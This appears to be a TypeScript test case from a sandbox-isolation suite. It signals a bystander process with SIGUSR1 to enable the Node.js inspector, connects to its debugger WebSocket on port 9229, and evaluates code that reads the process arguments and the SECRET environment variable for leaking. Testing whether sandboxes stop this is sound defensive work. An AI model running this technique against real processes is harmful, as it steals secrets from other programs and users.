import { targets } from './targets.ts';
import { attempt, attemptAsync, leak } from './tools.ts';

attempt(() => process.kill(targets.bystander.pid, 'SIGUSR1'));
await attemptAsync(async () => {
  await new Promise((over) => setTimeout(over, 500));
  const list = (await (await fetch('http://127.0.0.1:9229/json/list')).json()) as { webSocketDebuggerUrl: string }[];
  for (const { webSocketDebuggerUrl } of list) {
    const socket = new WebSocket(webSocketDebuggerUrl);
    await new Promise((over) => {
      socket.onopen = () => {
        const expression = 'process.argv.join() + process.env.SECRET';
        socket.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression } }));
      };
      socket.onmessage = ({ data }) => over(leak(String(data)));
    });
    socket.close();
  }
}, 3000);
